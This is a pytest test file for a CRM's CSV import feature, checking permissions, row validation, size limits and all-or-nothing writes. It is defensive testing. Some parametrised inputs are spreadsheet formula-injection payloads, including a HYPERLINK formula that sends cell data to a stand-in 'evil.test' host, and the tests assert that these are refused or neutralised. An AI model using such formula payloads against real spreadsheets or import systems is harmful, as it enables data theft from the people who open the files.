"""CSV import: who may import, what each row may hold, and all-or-nothing writes.

Every test runs on SQLite and PostgreSQL (the ``app`` fixture). The pages
are driven through the test client as the members of the seeded world; the
plugin service is also called directly where a test must get past the
preview to show that the flush guard still refuses a row.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from types import SimpleNamespace
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask

from crm_app.extensions import db
from crm_app.imports.models import ImportJob
from crm_app.models import Client, Deal, Lead
from crm_app.rbac_setup import rbac
from crm_rbac_plugin import imports
from crm_rbac_plugin.errors import PermissionDenied, ValidationError
from tests.rbac_helpers import CHUNKED, custom_role, give_role, remove_roles


@pytest.fixture(autouse=True)
def progress_dir(request: pytest.FixtureRequest, tmp_path: Any) -> None:
    """Each test's progress files in its own folder (tests run in parallel)."""
    if "app" in request.fixturenames:
        request.getfixturevalue("app").config["CRM_IMPORT_PROGRESS_DIR"] = str(tmp_path)


def count(model: type) -> int:
    with rbac.system():
        return int(db.session.scalar(sa.select(sa.func.count()).select_from(model)) or 0)


def names(model: type, column: str = "name") -> dict[str, Any]:
    """{name: record} of every stored record of ``model`` (unfiltered)."""
    with rbac.system():
        return {getattr(r, column): r for r in db.session.scalars(sa.select(model))}


def csv_text(rows: list[list[str]]) -> str:
    """``rows`` as CSV text, quoted as a spreadsheet writes them."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def upload(client: Any, resource: str, text: str | bytes, filename: str = "rows.csv") -> Any:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return client.post(f"/imports/{resource}", data={"file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def importer_role(w: SimpleNamespace, member_key: str, resource: str, scope: str = "own",
                  condition: Any = None, extra: tuple[str, ...] = ()) -> Any:
    """Give ``member_key`` only view/create/import (and ``extra``) on ``resource``."""
    with rbac.system():
        role = custom_role(w, f"Importer {member_key}",
                           [(resource, a, scope) for a in ("view", "create", "import", *extra)],
                           condition=condition)
        membership = w.members[member_key]
        remove_roles(membership)
        give_role(membership, role)
        db.session.commit()
    return role


LEADS = ("Name,Company,Email,Status,Owner\n"
         "Ada,Analytical,ada@example.test,new,member2@example.test\n"
         "Grace,Navy,grace@example.test,Qualified,\n")


def test_admin_imports_with_preview_mapping_owner_and_audit(world: SimpleNamespace,
                                                           login: Any) -> None:
    admin = login(world.users["admin"], world.ws)
    before = count(Lead)
    assert "Import CSV" in admin.get("/leads/").text
    assert upload(admin, "leads", LEADS).status_code == 302
    preview = admin.get("/imports/leads")
    assert preview.status_code == 200
    assert 'data-rows="2" data-errors="0"' in preview.text
    done = admin.post("/imports/leads/commit", headers={"Accept": "application/json"})
    assert done.status_code == 200 and done.json["imported"] == 2
    assert count(Lead) == before + 2
    stored = names(Lead)
    # The admin holds manage: the Owner column assigns; an empty one is the importer's.
    assert stored["Ada"].owner_id == world.users["member2"].id
    assert stored["Grace"].owner_id == world.users["admin"].id
    assert stored["Grace"].status == "qualified"
    assert stored["Ada"].workspace_id == world.ws.id
    with rbac.system():
        event = db.session.scalars(sa.select(rbac.models.AuditEvent).where(
            rbac.models.AuditEvent.action == "records.imported")).one()
        assert event.detail["rows"] == 2 and event.resource == "leads"
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportJob)) == 0
    progress = admin.get("/imports/leads/progress").json
    assert progress["state"] == "done" and progress["percent"] == 100


def test_members_without_import_are_refused(world: SimpleNamespace, login: Any) -> None:
    """Member (CRUD own, no import), Viewer and Finance: 403 on every route, nothing staged."""
    for key in ("member", "viewer", "finance"):
        client = login(world.users[key], world.ws)
        assert "Import CSV" not in client.get("/leads/").text
        assert client.get("/imports/leads").status_code == 403
        assert upload(client, "leads", LEADS).status_code == 403
        assert client.post("/imports/leads/commit").status_code == 403
        assert client.get("/imports/leads/progress").status_code == 403
    assert login(world.users["admin"], world.ws).get("/imports/tasks").status_code == 404
    with rbac.system():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportJob)) == 0


def test_without_manage_every_row_is_the_importers(world: SimpleNamespace, login: Any) -> None:
    importer_role(world, "member", "leads")
    member = login(world.users["member"], world.ws)
    upload(member, "leads", LEADS)
    preview = member.get("/imports/leads").text
    assert 'data-errors="1"' in preview and "assigning others needs manage" in preview
    assert member.post("/imports/leads/commit").status_code == 409
    assert "Ada" not in names(Lead)
    upload(member, "leads", "Name,Owner\nMine,member@example.test\nAlso mine,\n")
    assert member.post("/imports/leads/commit").status_code == 302
    stored = names(Lead)
    assert {stored["Mine"].owner_id, stored["Also mine"].owner_id} == {world.users["member"].id}


def test_per_row_errors_name_line_and_field(world: SimpleNamespace, login: Any) -> None:
    admin = login(world.users["admin"], world.ws)
    text = ("Title,Stage,Amount,Expected close,Owner\n"
            ",new,10,2027-01-01,\n"                          # 2: required
            "Big,won,ten,2027-01-01,\n"                      # 3: type
            "Late,won,10,31/01/2027,\n"                      # 4: date
            "Odd,closed,10,,\n"                              # 5: choice
            "Ghost,new,10,,nobody@example.test\n"            # 6: unknown owner
            "Outsider,new,10,,outsider@example.test\n"       # 7: member of another workspace
            "Fine,new,1234.50,2027-02-01,member@example.test\n")
    upload(admin, "deals", text)
    page = admin.get("/imports/deals").text
    for line, needle in [(2, "Title is required"), (3, "is not a number"),
                         (4, "is not a date"), (5, "is not one of"),
                         (6, "is not a member of this workspace"),
                         (7, "is not a member of this workspace")]:
        assert f'data-line="{line}"' in page and needle in page
    assert 'data-rows="7" data-errors="6"' in page
    before = count(Deal)
    refused = admin.post("/imports/deals/commit", headers={"Accept": "application/json"})
    assert refused.status_code == 409 and "nothing was imported" in refused.json["error"]
    assert count(Deal) == before


def test_formula_cells_are_neutralised(world: SimpleNamespace, login: Any) -> None:
    admin = login(world.users["admin"], world.ws)
    upload(admin, "clients", "Name,Phone,Region\n"
                             "=HYPERLINK(\"http://x.test\"),+44 20 7946 0000,north\n"
                             "Safe,=1+2,south\n")
    page = admin.get("/imports/clients").text
    assert "is not a phone number" in page  # a formula in a typed field is an error
    admin.post("/imports/clients/mapping", data={"map-name": "0", "map-region": "2"})
    assert admin.post("/imports/clients/commit").status_code == 302
    stored = names(Client)
    assert "'=HYPERLINK(\"http://x.test\")" in stored
    assert "=HYPERLINK(\"http://x.test\")" not in stored


@pytest.mark.parametrize("email", ['=HYPERLINK("http://evil.test/?"&A1)@x.io', "+1@x.io",
                                   "-cmd@x.io", "@SUM(1)@x.io", " =1@x.io"])
def test_a_formula_looking_email_is_refused(world: SimpleNamespace, login: Any,
                                            email: str) -> None:
    """No address starts with a formula character, and a quote in front would leave none."""
    admin = login(world.users["admin"], world.ws)
    upload(admin, "clients", csv_text([["Name", "Email"], ["Mailer", email]]))
    page = admin.get("/imports/clients").text
    assert "is not an email address" in page and 'data-errors="1"' in page
    assert admin.post("/imports/clients/commit").status_code == 409
    assert "Mailer" not in names(Client)


def test_field_rules_and_conditions_refuse_rows(world: SimpleNamespace, login: Any) -> None:
    role = importer_role(world, "member", "clients", scope="all",
                         condition=[{"field": "region", "op": "eq", "value": "north"}])
    with rbac.system():
        db.session.add(rbac.models.FieldRule(role=role, resource="clients", field="email",
                                             mode="readonly"))
        db.session.commit()
    member = login(world.users["member"], world.ws)
    upload(member, "clients", "Name,Email,Region\nNorth Co,,north\nSouth Co,,south\n"
                              "Mail Co,a@b.test,north\n")
    page = member.get("/imports/clients").text
    assert 'id="map-email"' not in page  # a read-only field is not offered
    admin = login(world.users["admin"], world.ws)
    assert admin.get("/imports/clients").text.count("data-line") == 0  # admin has no staged file
    # Mapping the read-only column anyway is refused by name.
    refused = member.post("/imports/clients/mapping",
                          data={"map-name": "0", "map-email": "1", "map-region": "2"})
    assert refused.status_code == 400 and "email cannot be imported by you" in refused.text
    with rbac.system():
        job = db.session.scalars(sa.select(ImportJob)).one()
        job.mapping = {"name": 0, "email": 1, "region": 2}  # as a forged earlier mapping
        db.session.commit()
    page = member.get("/imports/clients").text
    assert "Email is read-only for you" in page
    assert 'data-line="3"' in page and "You may not" in page  # south: outside the condition
    assert member.post("/imports/clients/commit").status_code == 409
    assert "North Co" not in names(Client)


def test_bad_files_get_clear_errors(world: SimpleNamespace, login: Any) -> None:
    admin = login(world.users["admin"], world.ws)
    cases = [
        ("Name\nCafé\n".encode("latin-1"), "not UTF-8"),
        (b"Name,Company\n\"Open,quote\n", "not valid CSV"),
        (b"Name\nA\x00B\n", "NUL bytes"),
        (b"", "empty"),
        (b"Name,name\nA,B\n", "appears twice"),
    ]
    for data, message in cases:
        response = upload(admin, "leads", data)
        assert response.status_code == 400, message
        assert message in response.text
    assert admin.post("/imports/leads", data={}).status_code == 400
    utf8_bom = upload(admin, "leads", "\ufeffName\nCafé\n".encode())
    assert utf8_bom.status_code == 302


def test_file_over_the_limit_is_413(backend: str, request: pytest.FixtureRequest) -> None:
    from tests.conftest import app_with_tables, build_world

    url = request.getfixturevalue("database_url")
    with app_with_tables(url, RBAC_IMPORT_MAX_BYTES=200) as app:
        w = build_world()
        client = app.test_client(user=w.users["admin"])
        big = "Name\n" + "".join(f"Lead {i}\n" for i in range(100))
        response = upload(client, "leads", big)
        assert response.status_code == 413
        assert "larger than the import limit" in response.text
        with rbac.system():
            assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportJob)) == 0


def test_a_chunked_file_over_the_limit_is_413_before_it_is_read(
        backend: str, request: pytest.FixtureRequest) -> None:
    """Without a Content-Length the cap still holds: the body is read up to it, no further."""
    from tests.conftest import app_with_tables, build_world

    url = request.getfixturevalue("database_url")
    with app_with_tables(url, RBAC_IMPORT_MAX_BYTES=200) as app:
        w = build_world()
        client = app.test_client(user=w.users["admin"])
        boundary = "chunkedboundary"
        rows = "Name\n" + "".join(f"Lead {i}\n" for i in range(100_000))
        body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
                f"filename=\"rows.csv\"\r\nContent-Type: text/csv\r\n\r\n{rows}\r\n"
                f"--{boundary}--\r\n").encode()
        response = client.post(
            "/imports/leads", input_stream=io.BytesIO(body),
            content_type=f"multipart/form-data; boundary={boundary}", **CHUNKED)
        assert response.status_code == 413
        with rbac.system():
            assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportJob)) == 0


def test_staged_files_are_each_members_own(world: SimpleNamespace, login: Any) -> None:
    importer_role(world, "member", "leads")
    admin = login(world.users["admin"], world.ws)
    member = login(world.users["member"], world.ws)
    upload(admin, "leads", "Name\nAdmin secret lead\n")
    assert "Admin secret lead" not in member.get("/imports/leads").text
    assert member.post("/imports/leads/commit").status_code == 409  # nothing of theirs staged
    assert "Admin secret lead" not in names(Lead)
    assert member.post("/imports/leads/discard").status_code == 302
    assert "Admin secret lead" in admin.get("/imports/leads").text


def test_guard_refuses_a_row_the_preview_missed_and_nothing_is_written(
        world: SimpleNamespace, app: Flask) -> None:
    """A plan forged past the preview still goes through the flush guard, chunk by chunk."""
    importer_role(world, "member", "leads")
    calls: list[tuple[int, int]] = []
    before = count(Lead)
    with app.test_request_context(), rbac.as_member(world.members["member"]):
        plan = imports.Plan("leads", 5, rows=[{"name": f"Row {i}"} for i in range(4)])
        plan.rows.append({"name": "Stolen", "owner_id": world.users["member2"].id})
        with pytest.raises(PermissionDenied):
            imports.commit(rbac, plan, chunk_rows=2,
                           progress=lambda done, total: calls.append((done, total)))
    assert calls == [(2, 5), (4, 5)]  # two chunks flushed before the refusal ...
    assert count(Lead) == before  # ... and rolled back with it


def test_service_refuses_outside_a_member(world: SimpleNamespace, app: Flask) -> None:
    with app.test_request_context(), rbac.system(), pytest.raises(PermissionDenied):
        imports.importer(rbac, "leads")
    with app.test_request_context(), rbac.as_member(world.members["member"]), \
            pytest.raises(PermissionDenied, match="import"):
        imports.importer(rbac, "leads")


@pytest.mark.parametrize(("cell", "value"), [
    ("12.5", Decimal("12.5")), ("-3", Decimal("-3")), ("0.01", Decimal("0.01")),
])
def test_decimal_cells(cell: str, value: Decimal) -> None:
    field = imports.ImportField("amount", "Amount", "decimal")
    assert imports.convert(field, cell, {}) == (value, False)


@pytest.mark.parametrize("cell", ["1.234", "nan", "inf", "1e20", "12,5"])
def test_bad_decimal_cells(cell: str) -> None:
    with pytest.raises(ValueError, match="Amount"):
        imports.convert(imports.ImportField("amount", "Amount", "decimal"), cell, {})


def test_too_many_rows_is_a_file_error() -> None:
    with pytest.raises(ValidationError, match="at most 2"):
        imports.read_csv(b"Name\na\nb\nc\n", max_rows=2, max_columns=5)


def test_commit_reports_progress_chunk_by_chunk(world: SimpleNamespace, login: Any,
                                                app: Flask, monkeypatch: pytest.MonkeyPatch
                                                ) -> None:
    from crm_app.imports import service

    app.config["RBAC_IMPORT_CHUNK_ROWS"] = 100
    seen: list[tuple[str, int, int]] = []
    real = service.write_progress

    def record(resource: str, state: str, done: int, total: int, message: str = "") -> None:
        seen.append((state, done, total))
        real(resource, state, done, total, message)

    monkeypatch.setattr(service, "write_progress", record)
    admin = login(world.users["admin"], world.ws)
    upload(admin, "leads", "Name\n" + "".join(f"Bulk lead {i}\n" for i in range(250)))
    assert admin.post("/imports/leads/commit").status_code == 302
    assert seen == [("running", 0, 250), ("running", 100, 250), ("running", 200, 250),
                    ("running", 250, 250), ("done", 250, 250)]
    assert admin.get("/imports/leads/progress").json == {
        "state": "done", "done": 250, "total": 250, "message": "", "percent": 100}
    assert sum(1 for n in names(Lead) if n.startswith("Bulk lead")) == 250


def test_a_read_only_owner_column_is_an_error_not_a_guard_refusal(
        world: SimpleNamespace, login: Any) -> None:
    """The guard refuses a new record whose owner column is read-only for the member
    (the owner it fills in is a write); the preview says so on the row."""
    role = importer_role(world, "member", "leads")
    with rbac.system():
        db.session.add(rbac.models.FieldRule(role=role, resource="leads", field="owner_id",
                                             mode="readonly"))
        db.session.commit()
    member = login(world.users["member"], world.ws)
    upload(member, "leads", "Name\nNobody's\n")
    page = member.get("/imports/leads").text
    assert 'data-errors="1"' in page and "owner_id is read-only for you" in page
    assert member.post("/imports/leads/commit").status_code == 409
    assert "Nobody's" not in names(Lead)


def test_errors_name_the_file_line_past_blank_rows_and_multi_line_cells(
        world: SimpleNamespace, login: Any) -> None:
    """A row's line is where it begins in the file: blank lines and rows of empty
    cells are skipped, not counted away, and a quoted cell may span lines."""
    admin = login(world.users["admin"], world.ws)
    text = ("Name,Email\n"                      # 1
            "Good one,a@b.test\n"               # 2
            "\n"                                # 3
            ",\n"                               # 4
            "Bad email row,not-an-email\n"      # 5
            '"multi\n'                          # 6
            'line",x@y.test\n'                  # 7
            "Bad2,zzz\n")                       # 8
    assert upload(admin, "leads", text).status_code == 302
    page = admin.get("/imports/leads").text
    assert 'data-rows="4" data-errors="2"' in page
    assert 'data-line="5"' in page and 'data-line="8"' in page
    assert 'data-line="3"' not in page and 'data-line="4"' not in page
    header, rows = imports.read_csv(text.encode(), max_rows=10, max_columns=10)
    assert header == ["Name", "Email"]
    assert [row.line for row in rows] == [2, 5, 6, 8]
    assert rows[2] == ["multi\nline", "x@y.test"]


@pytest.mark.parametrize("cell", ["1e30", "1e100", "-1e30", "123456789012345678901234567890"])
def test_an_amount_too_large_to_round_is_a_row_error(world: SimpleNamespace, login: Any,
                                                    cell: str) -> None:
    """A value with more digits than the decimal context's precision cannot be
    rounded to cents (``InvalidOperation``): it is refused as too large, and the
    import page, which checks the staged file at every visit, still answers."""
    admin = login(world.users["admin"], world.ws)
    assert upload(admin, "deals", f"Title,Amount\nHuge,{cell}\n").status_code == 302
    page = admin.get("/imports/deals")
    assert page.status_code == 200
    assert 'data-errors="1"' in page.text and "is too large" in page.text
    before = count(Deal)
    assert admin.post("/imports/deals/commit").status_code == 409
    assert count(Deal) == before


@pytest.mark.parametrize(("cell", "message"), [
    ("-0.01", "is below 0"), ("-9999999999.99", "is below 0"),
    ("10000000000", "is too large"), ("9999999999.01", "is above 9999999999"),
])
def test_an_amount_the_deal_form_refuses_is_refused(world: SimpleNamespace, login: Any,
                                                    cell: str, message: str) -> None:
    admin = login(world.users["admin"], world.ws)
    upload(admin, "deals", f"Title,Amount\nOut of range,{cell}\nFine,9999999999\n")
    page = admin.get("/imports/deals").text
    assert 'data-rows="2" data-errors="1"' in page and message in page
    assert admin.post("/imports/deals/commit").status_code == 409
    assert "Out of range" not in names(Deal, "title")


def test_a_lead_source_must_be_one_the_form_offers(world: SimpleNamespace, login: Any) -> None:
    admin = login(world.users["admin"], world.ws)
    upload(admin, "leads", "Name,Source\nCustom,Totally custom source\n")
    page = admin.get("/imports/leads").text
    assert 'data-errors="1"' in page and "is not one of website" in page
    upload(admin, "leads", "Name,Source\nKnown,Referral\nNone given,\n")
    assert admin.post("/imports/leads/commit").status_code == 302
    stored = names(Lead)
    assert stored["Known"].source == "referral"


@pytest.mark.parametrize("position", ["²", "１", "-1", "99", "1.0", ""])
def test_a_mapping_to_no_column_is_a_400_naming_the_field(world: SimpleNamespace, login: Any,
                                                          position: str) -> None:
    admin = login(world.users["admin"], world.ws)
    upload(admin, "leads", LEADS)
    with rbac.system():
        kept = db.session.scalars(sa.select(ImportJob)).one().mapping
    answer = admin.post("/imports/leads/mapping", data={"map-name": position})
    if position == "":
        assert answer.status_code == 302  # "" leaves the field unmapped
        return
    assert answer.status_code == 400 and "name: no such column" in answer.text
    with rbac.system():
        assert db.session.scalars(sa.select(ImportJob)).one().mapping == kept


def test_a_staged_file_imports_once_when_a_second_commit_comes_late(
        world: SimpleNamespace, login: Any, app: Flask) -> None:
    """Two commits of one upload (a second tab, a retried post): each loaded the
    staged job before either wrote. The first imports; the second's DELETE of the
    job finds no row, so it imports nothing and answers 409."""
    from crm_app.imports import service

    admin = login(world.users["admin"], world.ws)
    upload(admin, "leads", "Name\nOnce only\n")
    with app.test_request_context(), rbac.as_member(world.members["admin"]):
        late = service.staged("leads")
        assert late is not None
        # The first commit, on a connection of its own, takes the job away.
        assert admin.post("/imports/leads/commit").status_code == 302
        with pytest.raises(ValidationError, match="Upload a file first"):
            service.run(late)
        db.session.rollback()
    assert sum(1 for n in names(Lead) if n == "Once only") == 1
    assert admin.post("/imports/leads/commit").status_code == 409
    with rbac.system():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportJob)) == 0
